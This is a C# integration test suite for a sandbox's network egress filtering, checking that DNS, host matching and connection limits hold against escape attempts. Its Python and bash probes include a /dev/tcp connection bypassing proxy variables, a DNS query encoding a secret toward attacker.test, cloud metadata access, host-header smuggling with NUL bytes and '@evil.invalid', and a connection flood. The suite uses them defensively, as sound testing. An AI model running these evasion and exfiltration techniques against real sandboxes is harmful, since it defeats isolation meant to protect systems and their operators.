using System.Net;

namespace AotSandbox.IntegrationTests.Network;

/// <summary>
/// Battery N (L3/L4 egress), D (DNS) and P (host matching) against real namespaces: clients run inside the sandbox
/// netns as an unprivileged uid; every denial is asserted at the receiving sink in the lab netns.
/// </summary>
[Collection("network")]
public sealed class EgressTests : IAsyncLifetime
{
    private NetworkLab _lab = null!;
    private RecordingServer _allowed = null!;
    private RecordingServer _literal = null!;
    private RecordingServer _attacker = null!;

    public async Task InitializeAsync()
    {
        _lab = await NetworkLab.CreateAsync(o =>
        {
            o.EgressResolve.Add(AotSandbox.Emulator.Network.EgressResolveOverride.Parse("allowed.test=198.51.100.10:80"));
            o.EgressResolve.Add(AotSandbox.Emulator.Network.EgressResolveOverride.Parse("rebind.test=127.0.0.1:80"));
            o.EgressResolve.Add(AotSandbox.Emulator.Network.EgressResolveOverride.Parse("metadata.test=169.254.169.254:80"));
            o.MaxConnectionsPerSandbox = 32;
        });
        _allowed = await _lab.ListenAsync(IPEndPoint.Parse("198.51.100.10:80"));
        _literal = await _lab.ListenAsync(IPEndPoint.Parse("198.51.100.20:80"));
        _attacker = await _lab.ListenAsync(IPEndPoint.Parse("203.0.113.66:80"));
    }

    public async Task DisposeAsync() => await _lab.DisposeAsync();

    private const string AllowedPolicy = """[{"host":"allowed.test","port":80},{"host":"rebind.test","port":80},{"host":"metadata.test","port":80}]""";

    private static string ConnectProbe(params string[] targets) => $$"""
        import socket
        for host, port in [{{string.Join(",", targets)}}]:
            fam = socket.AF_INET6 if ':' in host else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2)
            try:
                s.connect((host, port)); s.sendall(b'GET / HTTP/1.1\r\nHost: x.invalid\r\n\r\n'); d = s.recv(100)
                print(host, port, 'sent', d[:12])
            except Exception as e:
                print(host, port, 'error', type(e).__name__)
            finally:
                s.close()
        """;

    [Fact]
    public async Task N1_DefaultDeny_NothingArrives()
    {
        LabSandbox sb = await _lab.AddSandboxAsync("[]");
        await using UdpSink udp = await _lab.ListenUdpAsync(IPEndPoint.Parse("198.51.100.10:9999"));
        var curl = await sb.CurlAsync("http://allowed.test/");
        Assert.NotEqual("200", curl.Out);
        var probe = await sb.PythonAsync(ConnectProbe("('198.51.100.10', 80)", "('198.51.100.20', 80)") + """

            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try: u.sendto(b'x', ('198.51.100.10', 9999))
            except Exception as e: print('udp', type(e).__name__)
            """);
        Assert.Equal(0, probe.Code);
        await Task.Delay(300);
        Assert.Equal(0, _allowed.Connections);
        Assert.Equal(0, _literal.Connections);
        Assert.Equal(0, udp.Datagrams);
    }

    [Fact]
    public async Task N2_IpLiteral_NeverDialled_HostHeaderRoutesByName()
    {
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        var denied = await sb.CurlAsync("http://198.51.100.20/");
        Assert.Equal("403", denied.Out);
        var spoof = await sb.CurlAsync("-H 'Host: allowed.test' http://198.51.100.20/");
        Assert.Equal("200", spoof.Out);
        await Task.Delay(200);
        Assert.Equal(0, _literal.Connections);
        Assert.Contains("GET / allowed.test", _allowed.Requests);
    }

    [Fact]
    public async Task N3_HostsFileSpoof_ProxyResolvesItself()
    {
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        File.WriteAllText($"/etc/netns/{sb.Netns}/hosts", "203.0.113.66 allowed.test\n");
        var r = await sb.CurlAsync("http://allowed.test/");
        Assert.Equal("200", r.Out);
        await Task.Delay(200);
        Assert.Equal(0, _attacker.Connections);
        Assert.Single(_allowed.Requests);
    }

    [Fact]
    public async Task N4_InternalAnswers_RefusedBeforeConnect()
    {
        await using RecordingServer loop = await _lab.ListenAsync(IPEndPoint.Parse("127.0.0.1:80"));
        await using RecordingServer metadata = await _lab.ListenAsync(IPEndPoint.Parse("169.254.169.254:80"));
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        Assert.NotEqual("200", (await sb.CurlAsync("http://rebind.test/")).Out);
        Assert.NotEqual("200", (await sb.CurlAsync("http://metadata.test/")).Out);
        await Task.Delay(200);
        Assert.Equal(0, loop.Connections);
        Assert.Equal(0, metadata.Connections);
    }

    [Fact]
    public async Task N5_IPv6_Dropped_V4MappedDecidedAsV4()
    {
        await using RecordingServer v6 = await _lab.ListenAsync(IPEndPoint.Parse("[2001:db8::20]:80"));
        LabSandbox sb = await _lab.AddSandboxAsync("\"allow-all\"");
        var probe = await sb.PythonAsync(ConnectProbe("('2001:db8::20', 80)", "('::ffff:198.51.100.20', 80)", "('fe80::1', 80)"));
        Assert.DoesNotContain("sent b'HTTP/1.1 200", probe.Out, StringComparison.Ordinal);
        await Task.Delay(200);
        Assert.Equal(0, v6.Connections);
        // allow-all with an IP literal: dialled only because 198.51.100.20 is not an internal address, but the Host
        // x.invalid names the destination and does not resolve: nothing reaches the literal either.
        Assert.Equal(0, _literal.Connections);
    }

    [Fact]
    public async Task N6_Udp_DroppedEvenToAllowedHostPort()
    {
        await using UdpSink quic = await _lab.ListenUdpAsync(IPEndPoint.Parse("198.51.100.10:443"));
        await using UdpSink dns = await _lab.ListenUdpAsync(IPEndPoint.Parse("192.0.2.53:53"));
        LabSandbox sb = await _lab.AddSandboxAsync("""[{"host":"allowed.test","port":443}]""");
        await sb.PythonAsync("""
            import socket
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for dst in [('198.51.100.10', 443), ('192.0.2.53', 53)]:
                for _ in range(3):
                    try: u.sendto(b'\x00' * 32, dst)
                    except Exception as e: print(type(e).__name__)
            """);
        await Task.Delay(300);
        Assert.Equal(0, quic.Datagrams);
        Assert.Equal(0, dns.Datagrams);
    }

    [Fact]
    public async Task N7_N8_HostPortsAndOtherSandboxes_Unreachable()
    {
        LabSandbox a = await _lab.AddSandboxAsync("\"allow-all\"");
        LabSandbox b = await _lab.AddSandboxAsync("[]");
        var bListener = b.RunAsync("timeout 6 /usr/bin/python3 -c \"import socket;s=socket.socket();s.bind(('0.0.0.0',8080));s.listen();c,_=s.accept();print('B-ACCEPTED')\"", 10_000);
        var (_, ports, _) = await NetworkLab.Sh("ss -ltnH | awk '{print $4}' | sed 's/.*://' | sort -un | head -40");
        var hostPorts = ports.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(int.Parse).Append(_lab.Service.PreviewEndpoint.Port).Append(8080).Distinct().ToList();
        string targets = string.Join(",", hostPorts.Select(p => $"('127.0.0.1', {p})"));
        var probe = await a.PythonAsync($$"""
            import socket
            ok = []
            for host, port in [{{targets}}]:
                s = socket.socket(); s.settimeout(1)
                try:
                    s.connect((host, port)); ok.append(port)
                except Exception:
                    pass
                s.close()
            print('reached', ok)
            """);
        Assert.Equal("reached []", probe.Out.Trim());
        // Nor can sandbox code take over the proxy's or resolver's in-namespace ports.
        var steal = await a.PythonAsync("""
            import socket
            for addr, port, typ in [('127.0.0.1', 15001, socket.SOCK_STREAM), ('0.0.0.0', 15001, socket.SOCK_STREAM), ('127.0.0.1', 53, socket.SOCK_DGRAM), ('0.0.0.0', 53, socket.SOCK_STREAM)]:
                s = socket.socket(socket.AF_INET, typ)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                try:
                    s.bind((addr, port)); print('bound', addr, port)
                except Exception as e:
                    print('refused', type(e).__name__)
            """);
        Assert.DoesNotContain("bound", steal.Out, StringComparison.Ordinal);
        var bResult = await bListener;
        Assert.DoesNotContain("B-ACCEPTED", bResult.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task N9_NoProxyEnvTricks_DevTcpAndRawSockets_Filtered()
    {
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        await sb.RunAsync("env -u HTTP_PROXY -u HTTPS_PROXY bash -c 'exec 3<>/dev/tcp/198.51.100.20/80; printf \"GET / HTTP/1.1\\r\\nHost: 198.51.100.20\\r\\n\\r\\n\" >&3; timeout 2 cat <&3'");
        var raw = await sb.PythonAsync("""
            import socket
            try:
                socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); print('raw-ok')
            except Exception as e:
                print('raw', type(e).__name__)
            """);
        Assert.Contains("raw PermissionError", raw.Out, StringComparison.Ordinal);
        await Task.Delay(200);
        Assert.Equal(0, _literal.Connections);
    }

    [Fact]
    public async Task N10_InSandboxRelayAndDirectProxyUse_StillFiltered()
    {
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        var r = await sb.PythonAsync("""
            import socket, threading
            # A relay inside the sandbox: its own outbound connection is intercepted like any other.
            srv = socket.socket(); srv.bind(('127.0.0.1', 9999)); srv.listen()
            def relay():
                c, _ = srv.accept(); data = c.recv(4096)
                u = socket.create_connection(('198.51.100.20', 80), timeout=2); u.sendall(data)
                c.sendall(u.recv(4096)); c.close()
            threading.Thread(target=relay, daemon=True).start()
            s = socket.create_connection(('127.0.0.1', 9999), timeout=3)
            s.sendall(b'GET / HTTP/1.1\r\nHost: 198.51.100.20\r\n\r\n'); print('relay', s.recv(12))
            # Talking to the proxy port directly (explicit CONNECT, SOCKS5): no original destination, reset.
            for frame in (b'CONNECT 198.51.100.20:80 HTTP/1.1\r\nHost: 198.51.100.20:80\r\n\r\n', b'\x05\x01\x00'):
                try:
                    # The reset may already come at connect (the proxy accepts and drops at once; seen under load).
                    p = socket.create_connection(('127.0.0.1', 15001), timeout=2)
                    p.sendall(frame); print('direct', p.recv(12))
                except Exception as e:
                    print('direct', type(e).__name__)
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); print('icmp socket')
            except Exception as e:
                print('icmp', type(e).__name__)
            """);
        Assert.Contains("relay b'HTTP/1.1 403'", r.Out, StringComparison.Ordinal);
        Assert.DoesNotContain("direct b'HTTP", r.Out, StringComparison.Ordinal);
        Assert.Contains("icmp PermissionError", r.Out, StringComparison.Ordinal);
        await Task.Delay(200);
        Assert.Equal(0, _literal.Connections);
    }

    [Fact]
    public async Task N11_ConnectionFlood_CappedAndSecondSandboxServed()
    {
        LabSandbox flooder = await _lab.AddSandboxAsync(AllowedPolicy);
        LabSandbox other = await _lab.AddSandboxAsync(AllowedPolicy);
        var flood = flooder.PythonAsync("""
            import socket, time
            socks = []
            for i in range(200):
                s = socket.socket(); s.settimeout(1)
                try: s.connect(('allowed.test', 80)); socks.append(s)
                except Exception: pass
            time.sleep(2)
            print('held', len(socks))
            """);
        await Task.Delay(800);
        var sw = System.Diagnostics.Stopwatch.StartNew();
        Assert.Equal("200", (await other.CurlAsync("http://allowed.test/")).Out);
        Assert.True(sw.ElapsedMilliseconds < 3000, $"second sandbox took {sw.ElapsedMilliseconds} ms");
        await flood;
        Assert.True(_allowed.Connections <= 32 + 1, $"upstream saw {_allowed.Connections} connections");
    }

    [Fact]
    public async Task D1_D2_DnsOnlyLocalAllowlisted_NothingForwarded()
    {
        await using UdpSink authority = await _lab.ListenUdpAsync(IPEndPoint.Parse("192.0.2.53:53"));
        await using RecordingServer tcp53 = await _lab.ListenAsync(IPEndPoint.Parse("192.0.2.53:53"), http: false);
        await using RecordingServer dot = await _lab.ListenAsync(IPEndPoint.Parse("192.0.2.53:853"), http: false);
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        var r = await sb.PythonAsync("""
            import socket, struct
            def q(name, qtype=1):
                m = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
                for l in name.split('.'): m += bytes([len(l)]) + l.encode()
                return m + b'\x00' + struct.pack('>HH', qtype, 1)
            def udp(name, server='127.0.0.1', qtype=1):
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
                try: u.sendto(q(name, qtype), (server, 53)); d = u.recv(512); return 'rcode=%d an=%d' % (d[3] & 15, d[7])
                except Exception as e: return type(e).__name__
            print('allowed', udp('allowed.test'))
            print('exfil', udp('c2VjcmV0.' + 'a' * 60 + '.attacker.test', qtype=16))
            print('direct', udp('allowed.test', server='192.0.2.53'))
            t = socket.create_connection(('127.0.0.1', 53), timeout=2); m = q('attacker.test')
            t.sendall(struct.pack('>H', len(m)) + m); d = t.recv(512); print('tcp rcode=%d' % (d[5] & 15))
            for port in (53, 853):
                s = socket.socket(); s.settimeout(1)
                try: s.connect(('192.0.2.53', port)); s.sendall(b'\x00\x10' + q('x.test')[:16]); print('tcp', port, s.recv(10))
                except Exception as e: print('tcp', port, type(e).__name__)
            """);
        Assert.Contains("allowed rcode=0 an=1", r.Out, StringComparison.Ordinal);
        Assert.Contains("exfil rcode=3", r.Out, StringComparison.Ordinal);
        Assert.Contains("tcp rcode=3", r.Out, StringComparison.Ordinal);
        await Task.Delay(300);
        Assert.Equal(0, authority.Datagrams);
        Assert.Equal(0, tcp53.Connections);
        Assert.Equal(0, dot.Connections);
    }

    [Fact]
    public async Task P1_P2_P5_HostSpellingsAndPortConfusion()
    {
        await using RecordingServer port22 = await _lab.ListenAsync(IPEndPoint.Parse("198.51.100.10:22"), http: false);
        LabSandbox sb = await _lab.AddSandboxAsync(AllowedPolicy);
        var first = await sb.CurlAsync("-H 'Host: ALLOWED.TEST.' http://allowed.test/a");
        Assert.True(first.Out == "200", $"code {first.Code} out '{first.Out}' err '{first.Err}'");
        Assert.Equal("200", (await sb.CurlAsync("-H 'Host: allowed.test:80' http://allowed.test/b")).Out);
        Assert.Equal("421", (await sb.CurlAsync("-H 'Host: allowed.test:443' http://allowed.test/c")).Out);
        Assert.Equal("400", (await sb.CurlAsync("-H 'Host: allowed.test@evil.invalid' http://allowed.test/d")).Out);
        Assert.NotEqual("200", (await sb.CurlAsync("http://allowed.test:22/")).Out);
        var nul = await sb.PythonAsync("""
            import socket
            s = socket.create_connection(('allowed.test', 80), timeout=2)
            s.sendall(b'GET /nul HTTP/1.1\r\nHost: evil.invalid\x00.allowed.test\r\n\r\n'); print(s.recv(12))
            """);
        Assert.Contains("400", nul.Out, StringComparison.Ordinal);
        await Task.Delay(200);
        Assert.Equal(["GET /a ALLOWED.TEST.", "GET /b allowed.test:80"], _allowed.Requests.ToArray());
        Assert.Equal(0, port22.Connections);
    }
}

[CollectionDefinition("network", DisableParallelization = true)]
public sealed class NetworkCollection;
